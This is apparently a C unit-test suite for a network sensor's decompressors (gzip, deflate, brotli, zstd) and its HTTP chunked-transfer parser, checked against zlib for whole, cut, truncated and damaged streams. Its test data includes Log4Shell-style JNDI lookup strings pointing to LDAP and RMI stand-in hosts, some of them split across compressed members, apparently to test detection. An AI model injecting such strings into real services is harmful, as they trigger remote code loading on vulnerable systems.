/* Tests of the decompressors. What they give is compared with the reference libraries' own output,
 * also for damaged and truncated streams, and must not depend on how the input was cut. */
#include "sensor/base/bytes.h"
#include "sensor/base/mem.h"
#include "sensor/base/sbuf.h"
#include "sensor/codec/chunked.h"
#include "sensor/codec/inflater.h"
#include "tests/unit/runner.h"

#include <brotli/encode.h>
#include <stdlib.h>
#include <zlib.h>
#include <zstd.h>

enum { CAP = 64 << 20, GZIP = 31, ZLIB = 15, RAW = -15 };

/* --- helpers ------------------------------------------------------------------------------------
 */

static uint64_t next_random(uint64_t *seed)
{
    *seed ^= *seed >> 12;
    *seed ^= *seed << 25;
    *seed ^= *seed >> 27;
    return *seed * 0x2545f4914f6cdd1d;
}

/* Words, so that there is something to compress. */
static struct sbuf make_text(size_t len, uint64_t seed)
{
    struct sbuf text = sbuf_with_cap(CAP);
    while (text.len < len) {
        sbuf_add_format(&text, "%s%u ", next_random(&seed) % 9 == 0 ? "${jndi:ldap://x/" : "word",
                        (unsigned)(next_random(&seed) % 500));
    }
    sbuf_shorten(&text, len);
    return text;
}

static void add_deflated(struct sbuf *out, struct span text, int window, int level)
{
    z_stream z = {0};
    CU_ASSERT_FATAL(deflateInit2(&z, level, 8, window, 8, Z_DEFAULT_STRATEGY) == Z_OK);
    size_t room = deflateBound(&z, text.len) + 64;
    uint8_t *at = sbuf_reserve(out, room);
    CU_ASSERT_FATAL(at != NULL);
    z.next_in = (Bytef *)(uintptr_t)text.data;
    z.avail_in = (uInt)text.len;
    z.next_out = at;
    z.avail_out = (uInt)room;
    CU_ASSERT_FATAL(deflate(&z, Z_FINISH) == Z_STREAM_END);
    sbuf_commit(out, room - z.avail_out);
    deflateEnd(&z);
}

static void add_brotli(struct sbuf *out, struct span text)
{
    size_t room = BrotliEncoderMaxCompressedSize(text.len) + 64;
    uint8_t *at = sbuf_reserve(out, room);
    CU_ASSERT_FATAL(at != NULL);
    CU_ASSERT_FATAL(BrotliEncoderCompress(5, 22, BROTLI_MODE_GENERIC, text.len, text.data, &room,
                                          at) == BROTLI_TRUE);
    sbuf_commit(out, room);
}

static void add_zstd(struct sbuf *out, struct span text)
{
    size_t room = ZSTD_compressBound(text.len);
    uint8_t *at = sbuf_reserve(out, room);
    CU_ASSERT_FATAL(at != NULL);
    sbuf_commit(out, ZSTD_compress(at, room, text.data, text.len, 3));
}

/* What zlib reads of it. */
static struct sbuf oracle(struct span in, int window)
{
    struct sbuf out = sbuf_with_cap(CAP);
    z_stream z = {0};
    CU_ASSERT_FATAL(inflateInit2(&z, window) == Z_OK);
    z.next_in = (Bytef *)(uintptr_t)in.data;
    z.avail_in = (uInt)in.len;
    int verdict = Z_OK;
    while (verdict == Z_OK) {
        uint8_t *at = sbuf_reserve(&out, 65536);
        CU_ASSERT_FATAL(at != NULL);
        z.next_out = at;
        z.avail_out = 65536;
        verdict = inflate(&z, Z_SYNC_FLUSH);
        sbuf_commit(&out, 65536 - z.avail_out);
    }
    inflateEnd(&z);
    return out;
}

struct outcome {
    struct sbuf out;
    enum inflater_result end;
    size_t left; /* input behind the stream's end */
};

static enum inflater_result give(struct inflater *i, struct span *piece, struct sbuf *out)
{
    enum inflater_result result;
    do {
        struct span got;
        result = inflater_next(i, piece, &got);
        sbuf_add(out, got);
    } while (result == INFLATER_FULL);
    CU_ASSERT(result != INFLATER_MORE || piece->len == 0);
    return result;
}

/* seed 0: whole; 1: byte by byte; else cut at random. */
static struct outcome inflate_all(enum inflater_kind kind, struct span in, uint64_t seed)
{
    struct inflater *i = inflater_new(kind);
    struct outcome o = {.out = sbuf_with_cap(CAP), .end = INFLATER_MORE};
    CU_ASSERT_FATAL(i != NULL);
    while (in.len > 0 && o.end == INFLATER_MORE) {
        size_t len = seed == 0 ? in.len : seed == 1 ? 1 : 1 + next_random(&seed) % in.len;
        struct span piece = span_head(in, len);
        o.end = give(i, &piece, &o.out);
        in = span_from(in, len - piece.len);
    }
    o.left = in.len;
    if (o.end == INFLATER_MORE) {
        do {
            struct span got;
            o.end = inflater_finish(i, &got);
            sbuf_add(&o.out, got);
        } while (o.end == INFLATER_FULL);
    }
    inflater_free(&i);
    return o;
}

static void check(enum inflater_kind kind, struct span in, struct span expected,
                  enum inflater_result end)
{
    for (uint64_t seed = 0; seed < 6; seed++) {
        struct outcome o = inflate_all(kind, in, seed);
        CU_ASSERT(o.end == end);
        CU_ASSERT(span_equal(sbuf_span(&o.out), expected));
        sbuf_free(&o.out);
    }
}

/* zlib refuses some headers that igzip takes; streams that it reads nothing of say nothing. */
static void check_like_zlib(enum inflater_kind kind, struct span in, int window)
{
    struct sbuf expected = oracle(in, window);
    struct outcome whole = inflate_all(kind, in, 0);
    CU_ASSERT(expected.len == 0 || span_equal(sbuf_span(&whole.out), sbuf_span(&expected)));
    for (uint64_t seed = 1; seed < 4; seed++) {
        struct outcome cut = inflate_all(kind, in, seed);
        CU_ASSERT(cut.end == whole.end);
        CU_ASSERT(span_equal(sbuf_span(&cut.out), sbuf_span(&whole.out)));
        sbuf_free(&cut.out);
    }
    sbuf_free(&whole.out);
    sbuf_free(&expected);
}

/* --- whole streams ------------------------------------------------------------------------------
 */

static void gzip_is_read_however_it_is_cut(void)
{
    static const size_t sizes[] = {0, 1, 300, 70000, 900000};
    for (size_t i = 0; i < ARRAY_LEN(sizes); i++) {
        struct sbuf text = make_text(sizes[i], 5);
        struct sbuf in = sbuf_with_cap(CAP);
        add_deflated(&in, sbuf_span(&text), GZIP, i == 3 ? 0 : 6);
        check(INFLATER_GZIP, sbuf_span(&in), sbuf_span(&text), INFLATER_END);
        sbuf_free(&in);
        sbuf_free(&text);
    }
}

/* igzip's own reader of headers fails on some of these when they come in pieces. */
static void gzip_headers_of_every_kind_are_read(void)
{
    char extra[] = "extra";
    char name[] = "a name";
    char comment[] = "a comment";
    for (int flags = 0; flags < 16; flags++) {
        struct sbuf in = sbuf_with_cap(CAP);
        uint8_t *at = sbuf_reserve(&in, 256);
        z_stream z = {0};
        gz_header header = {
            .hcrc = flags & 1,
            .extra = (flags & 2) != 0 ? (Bytef *)extra : NULL,
            .extra_len = (flags & 2) != 0 ? sizeof(extra) : 0,
            .name = (flags & 4) != 0 ? (Bytef *)name : NULL,
            .comment = (flags & 8) != 0 ? (Bytef *)comment : NULL,
        };
        CU_ASSERT_FATAL(at != NULL);
        CU_ASSERT_FATAL(deflateInit2(&z, 6, 8, GZIP, 8, Z_DEFAULT_STRATEGY) == Z_OK);
        CU_ASSERT_FATAL(deflateSetHeader(&z, &header) == Z_OK);
        z.next_in = (Bytef *)comment;
        z.avail_in = sizeof(comment) - 1;
        z.next_out = at;
        z.avail_out = 256;
        CU_ASSERT_FATAL(deflate(&z, Z_FINISH) == Z_STREAM_END);
        sbuf_commit(&in, 256 - z.avail_out);
        deflateEnd(&z);
        check(INFLATER_GZIP, sbuf_span(&in), SPAN("a comment"), INFLATER_END);
        for (size_t len = 1; len < in.len; len++) {
            check_like_zlib(INFLATER_GZIP, span_head(sbuf_span(&in), len), GZIP);
        }
        sbuf_free(&in);
    }
}

static void gzip_members_follow_each_other(void)
{
    struct sbuf in = sbuf_with_cap(CAP);
    add_deflated(&in, SPAN("${jn"), GZIP, 6);
    add_deflated(&in, SPAN(""), GZIP, 6);
    add_deflated(&in, SPAN("di:x}"), GZIP, 0);
    check(INFLATER_GZIP, sbuf_span(&in), SPAN("${jndi:x}"), INFLATER_END);
    sbuf_free(&in);
}

static void bytes_behind_the_last_gzip_member_are_left(void)
{
    struct sbuf in = sbuf_with_cap(CAP);
    add_deflated(&in, SPAN("abc"), GZIP, 6);
    sbuf_add_str(&in, "junk");
    for (uint64_t seed = 0; seed < 4; seed++) {
        struct outcome o = inflate_all(INFLATER_GZIP, sbuf_span(&in), seed);
        CU_ASSERT(o.end == INFLATER_END);
        CU_ASSERT(seed != 0 || o.left == 4);
        CU_ASSERT(span_equal(sbuf_span(&o.out), SPAN("abc")));
        sbuf_free(&o.out);
    }
    sbuf_free(&in);
}

/* What was read too far is had back, so that nothing behind the end is hidden. */
static void bytes_behind_a_raw_stream_are_had_back(void)
{
    struct sbuf in = sbuf_with_cap(CAP);
    struct span got;
    add_deflated(&in, SPAN("abc"), RAW, 6);
    sbuf_add_str(&in, "${jndi:x}");
    struct inflater *i = inflater_new(INFLATER_DEFLATE);
    CU_ASSERT_FATAL(i != NULL);
    struct span rest = sbuf_span(&in);
    enum inflater_result result = INFLATER_FULL;
    while (result == INFLATER_FULL) {
        result = inflater_next(i, &rest, &got);
    }
    struct sbuf behind = sbuf_with_cap(CAP);
    sbuf_add(&behind, inflater_input(i));
    sbuf_add(&behind, rest);
    CU_ASSERT(result == INFLATER_END);
    CU_ASSERT(span_equal(sbuf_span(&behind), SPAN("${jndi:x}")));
    inflater_free(&i);
    sbuf_free(&behind);
    sbuf_free(&in);
}

static void deflate_is_read_with_and_without_its_wrapping(void)
{
    static const int windows[] = {ZLIB, RAW};
    struct sbuf text = make_text(5000, 9);
    for (size_t i = 0; i < ARRAY_LEN(windows); i++) {
        struct sbuf in = sbuf_with_cap(CAP);
        add_deflated(&in, sbuf_span(&text), windows[i], 9);
        check(INFLATER_DEFLATE, sbuf_span(&in), sbuf_span(&text), INFLATER_END);
        sbuf_free(&in);
    }
    sbuf_free(&text);
}

static void brotli_and_zstd_are_read_however_they_are_cut(void)
{
    static const size_t sizes[] = {1, 300, 70000, 900000};
    for (size_t i = 0; i < ARRAY_LEN(sizes); i++) {
        struct sbuf text = make_text(sizes[i], 7);
        struct sbuf br = sbuf_with_cap(CAP);
        struct sbuf zstd = sbuf_with_cap(CAP);
        add_brotli(&br, sbuf_span(&text));
        add_zstd(&zstd, sbuf_span(&text));
        check(INFLATER_BROTLI, sbuf_span(&br), sbuf_span(&text), INFLATER_END);
        check(INFLATER_ZSTD, sbuf_span(&zstd), sbuf_span(&text), INFLATER_END);
        sbuf_free(&br);
        sbuf_free(&zstd);
        sbuf_free(&text);
    }
}

static void zstd_frames_follow_each_other(void)
{
    struct sbuf in = sbuf_with_cap(CAP);
    add_zstd(&in, SPAN("${jn"));
    sbuf_add(&in, SPAN("\x50\x2a\x4d\x18\x02\x00\x00\x00zz")); /* a frame to be skipped */
    add_zstd(&in, SPAN("di:x}"));
    check(INFLATER_ZSTD, sbuf_span(&in), SPAN("${jndi:x}"), INFLATER_END);
    sbuf_free(&in);
}

/* --- damaged streams ----------------------------------------------------------------------------
 */

static void truncated_streams_give_what_zlib_gives(void)
{
    struct sbuf text = make_text(900, 11);
    struct sbuf in = sbuf_with_cap(CAP);
    add_deflated(&in, sbuf_span(&text), GZIP, 9);
    for (size_t len = 11; len < in.len; len++) {
        check_like_zlib(INFLATER_GZIP, span_head(sbuf_span(&in), len), GZIP);
    }
    sbuf_free(&in);
    sbuf_free(&text);
}

static void damage(struct sbuf *in, uint64_t *seed)
{
    for (uint64_t n = 1 + next_random(seed) % 3; n > 0; n--) {
        in->data[next_random(seed) % in->len] ^= (uint8_t)(1U << next_random(seed) % 8);
    }
}

static void damaged_streams_give_what_zlib_gives(void)
{
    static const int windows[] = {GZIP, ZLIB, RAW};
    uint64_t seed = 3;
    for (unsigned n = 0; n < 450; n++) {
        int window = windows[n % 3];
        size_t most = n % 10 == 9 ? 60000 : 4000; /* most is read again in one go, or little is */
        struct sbuf text = make_text(next_random(&seed) % most, next_random(&seed) | 1);
        struct sbuf in = sbuf_with_cap(CAP);
        add_deflated(&in, sbuf_span(&text), window, (int)(n % 10));
        if (window == RAW || window == GZIP) {
            damage(&in, &seed);
            check_like_zlib(window == GZIP ? INFLATER_GZIP : INFLATER_DEFLATE, sbuf_span(&in),
                            window);
        } else {
            in.data[2 + next_random(&seed) % (in.len - 2)] ^= 4; /* it stays wrapped */
            check_like_zlib(INFLATER_DEFLATE, sbuf_span(&in), window);
        }
        sbuf_free(&in);
        sbuf_free(&text);
    }
}

static void damage_far_behind_the_start_is_read_up_to(void)
{
    struct sbuf text = make_text(1 << 20, 17);
    struct sbuf in = sbuf_with_cap(CAP);
    add_deflated(&in, sbuf_span(&text), GZIP, 1);
    CU_ASSERT(in.len > 200000);
    in.data[180000] ^= 0x55;
    in.data[180001] ^= 0x55;
    check_like_zlib(INFLATER_GZIP, sbuf_span(&in), GZIP);
    sbuf_free(&in);
    sbuf_free(&text);
}

static void damaged_brotli_and_zstd_do_not_depend_on_cuts(void)
{
    uint64_t seed = 23;
    for (unsigned n = 0; n < 300; n++) {
        enum inflater_kind kind = n % 2 == 0 ? INFLATER_BROTLI : INFLATER_ZSTD;
        struct sbuf text = make_text(1 + next_random(&seed) % 40000, next_random(&seed) | 1);
        struct sbuf in = sbuf_with_cap(CAP);
        if (kind == INFLATER_BROTLI) {
            add_brotli(&in, sbuf_span(&text));
        } else {
            add_zstd(&in, sbuf_span(&text));
        }
        damage(&in, &seed);
        struct outcome whole = inflate_all(kind, sbuf_span(&in), 0);
        struct outcome cut = inflate_all(kind, sbuf_span(&in), 1);
        CU_ASSERT(whole.end == cut.end);
        CU_ASSERT(span_equal(sbuf_span(&whole.out), sbuf_span(&cut.out)));
        sbuf_free(&whole.out);
        sbuf_free(&cut.out);
        sbuf_free(&in);
        sbuf_free(&text);
    }
}

/* The decoder would drop all of this on an error. */
static void brotli_gives_what_stands_before_the_damage(void)
{
    struct sbuf text = make_text(60000, 29);
    struct sbuf in = sbuf_with_cap(CAP);
    add_brotli(&in, sbuf_span(&text));
    sbuf_shorten(&in, in.len * 3 / 4);
    for (unsigned i = 0; i < 64; i++) {
        sbuf_add_byte(&in, 0xff);
    }
    struct outcome o = inflate_all(INFLATER_BROTLI, sbuf_span(&in), 0);
    CU_ASSERT(o.out.len > text.len / 2);
    CU_ASSERT(span_equal(span_head(sbuf_span(&text), text.len / 2),
                         span_head(sbuf_span(&o.out), text.len / 2)));
    sbuf_free(&o.out);
    sbuf_free(&in);
    sbuf_free(&text);
}

static void text_is_no_stream_and_can_be_had_back(void)
{
    static const enum inflater_kind kinds[] = {INFLATER_GZIP, INFLATER_DEFLATE, INFLATER_BROTLI,
                                               INFLATER_ZSTD};
    struct span text = SPAN("xx=${jndi:ldap://198.51.100.7/a}&yy=1&zz=${jndi:rmi://x/b}");
    for (size_t k = 0; k < ARRAY_LEN(kinds); k++) {
        struct inflater *i = inflater_new(kinds[k]);
        struct sbuf out = sbuf_with_cap(CAP);
        struct span in = text;
        struct span got;
        CU_ASSERT_FATAL(i != NULL);
        enum inflater_result result = give(i, &in, &out);
        while (result == INFLATER_MORE || result == INFLATER_FULL) {
            result = inflater_finish(i, &got);
        }
        CU_ASSERT(result == INFLATER_BROKEN);
        CU_ASSERT(span_starts(text, inflater_input(i)));
        CU_ASSERT(inflater_input(i).len + in.len == text.len);
        inflater_free(&i);
        sbuf_free(&out);
    }
}

static void without_memory_there_is_no_inflater(void)
{
    static const enum inflater_kind kinds[] = {INFLATER_GZIP, INFLATER_BROTLI, INFLATER_ZSTD};
    for (size_t k = 0; k < ARRAY_LEN(kinds); k++) {
        mem_fail_at(1, 0);
        struct inflater *i = inflater_new(kinds[k]);
        mem_fail_at(0, 0);
        CU_ASSERT(i == NULL);
        inflater_free(&i);
    }
}

/* --- chunked ------------------------------------------------------------------------------------
 */

struct chunks {
    struct sbuf data;
    struct sbuf extensions;
    enum chunked_step end;
    size_t left;
};

static struct chunks read_chunks(struct span in, bool bytewise)
{
    struct chunked c = {0};
    struct chunks r = {.data = sbuf_with_cap(CAP), .extensions = sbuf_with_cap(CAP)};
    while (in.len > 0 && r.end != CHUNKED_END && r.end != CHUNKED_BROKEN) {
        struct span piece = span_head(in, bytewise ? 1 : in.len);
        size_t given = piece.len;
        do {
            struct span got = {0};
            r.end = chunked_next(&c, &piece, &got);
            sbuf_add(r.end == CHUNKED_DATA ? &r.data : &r.extensions, got);
        } while (r.end == CHUNKED_DATA || r.end == CHUNKED_EXTENSION);
        in = span_from(in, given - piece.len);
    }
    r.left = in.len;
    return r;
}

static void check_chunks(struct span in, struct span data, enum chunked_step end, size_t left)
{
    for (unsigned bytewise = 0; bytewise < 2; bytewise++) {
        struct chunks r = read_chunks(in, bytewise == 1);
        CU_ASSERT(span_equal(sbuf_span(&r.data), data));
        CU_ASSERT(r.end == end);
        CU_ASSERT(r.left == left);
        sbuf_free(&r.data);
        sbuf_free(&r.extensions);
    }
}

static void chunks_are_joined_and_the_trailers_left(void)
{
    check_chunks(SPAN("3\r\nabc\r\n00A \r\n0123456789\r\n0\r\nX: y\r\n\r\n"), SPAN("abc0123456789"),
                 CHUNKED_END, 8);
    check_chunks(SPAN("3\nabc\n0\n\n"), SPAN("abc"), CHUNKED_END, 1);
    check_chunks(SPAN("2;a=\"b\"\r\nxy\r\n0;z\r\n\r\n"), SPAN("xy"), CHUNKED_END, 2);
}

static void chunk_sizes_that_are_none_break_the_framing(void)
{
    check_chunks(SPAN("0x3\r\nabc\r\n"), SPAN(""), CHUNKED_BROKEN, 9);
    check_chunks(SPAN("-1\r\n"), SPAN(""), CHUNKED_BROKEN, 4);
    check_chunks(SPAN("\r\nabc"), SPAN(""), CHUNKED_BROKEN, 5);
    check_chunks(SPAN("3\r\nabcd\r\n"), SPAN("abc"), CHUNKED_BROKEN, 3);
    check_chunks(SPAN("10000000000000000\r\n"), SPAN(""), CHUNKED_BROKEN, 3);
    check_chunks(SPAN("3 3\r\n"), SPAN(""), CHUNKED_BROKEN, 3);
}

static void gap_inside_a_chunk_is_counted_off(void)
{
    struct chunked c = {0};
    struct span in = SPAN("A\r\n012");
    struct span got;
    CU_ASSERT(chunked_next(&c, &in, &got) == CHUNKED_DATA);
    CU_ASSERT_FALSE(chunked_skip(&c, 8));
    CU_ASSERT(chunked_skip(&c, 6));
    in = SPAN("9\r\n0\r\n");
    CU_ASSERT(chunked_next(&c, &in, &got) == CHUNKED_DATA);
    CU_ASSERT(span_equal(got, SPAN("9")));
    CU_ASSERT_FALSE(chunked_skip(&c, 1));
    CU_ASSERT(chunked_next(&c, &in, &got) == CHUNKED_END);
}

static CU_TestInfo whole_tests[] = {
    {"gzip_is_read_however_it_is_cut", gzip_is_read_however_it_is_cut},
    {"gzip_headers_of_every_kind_are_read", gzip_headers_of_every_kind_are_read},
    {"gzip_members_follow_each_other", gzip_members_follow_each_other},
    {"bytes_behind_the_last_gzip_member_are_left", bytes_behind_the_last_gzip_member_are_left},
    {"bytes_behind_a_raw_stream_are_had_back", bytes_behind_a_raw_stream_are_had_back},
    {"deflate_is_read_with_and_without_its_wrapping",
     deflate_is_read_with_and_without_its_wrapping},
    {"brotli_and_zstd_are_read_however_they_are_cut",
     brotli_and_zstd_are_read_however_they_are_cut},
    {"zstd_frames_follow_each_other", zstd_frames_follow_each_other},
    CU_TEST_INFO_NULL,
};

static CU_TestInfo damaged_tests[] = {
    {"truncated_streams_give_what_zlib_gives", truncated_streams_give_what_zlib_gives},
    {"damaged_streams_give_what_zlib_gives", damaged_streams_give_what_zlib_gives},
    {"damage_far_behind_the_start_is_read_up_to", damage_far_behind_the_start_is_read_up_to},
    {"damaged_brotli_and_zstd_do_not_depend_on_cuts",
     damaged_brotli_and_zstd_do_not_depend_on_cuts},
    {"brotli_gives_what_stands_before_the_damage", brotli_gives_what_stands_before_the_damage},
    {"text_is_no_stream_and_can_be_had_back", text_is_no_stream_and_can_be_had_back},
    {"without_memory_there_is_no_inflater", without_memory_there_is_no_inflater},
    CU_TEST_INFO_NULL,
};

static CU_TestInfo chunked_tests[] = {
    {"chunks_are_joined_and_the_trailers_left", chunks_are_joined_and_the_trailers_left},
    {"chunk_sizes_that_are_none_break_the_framing", chunk_sizes_that_are_none_break_the_framing},
    {"gap_inside_a_chunk_is_counted_off", gap_inside_a_chunk_is_counted_off},
    CU_TEST_INFO_NULL,
};

int main(void)
{
    CU_SuiteInfo suites[] = {
        {"whole", NULL, NULL, NULL, NULL, whole_tests},
        {"damaged", NULL, NULL, NULL, NULL, damaged_tests},
        {"chunked", NULL, NULL, NULL, NULL, chunked_tests},
        CU_SUITE_INFO_NULL,
    };
    return run_suites(suites);
}
